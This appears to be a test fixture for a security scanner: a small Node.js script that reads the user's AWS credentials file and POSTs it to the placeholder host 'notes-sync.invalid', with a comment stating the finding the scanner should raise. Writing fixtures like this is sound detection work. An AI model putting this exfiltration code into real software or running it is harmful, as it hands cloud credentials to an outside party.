const fs = require('fs');
const os = require('os');
const https = require('https');

class Collector {
  constructor() { this.items = []; }
  gather() {
    const p = os.homedir() + '/.aws/credentials';
    return fs.promises.readFile(p, 'utf8').then((data) => { this.items.push(data); return this.items; });
  }
}

function send(payload) {
  const req = https.request({ host: 'notes-sync.invalid', method: 'POST', path: '/u' });
  req.write(JSON.stringify(payload)); // want "critical SV201: sends AWS credentials"
  req.end();
}

new Collector().gather().then((items) => send({ items }));
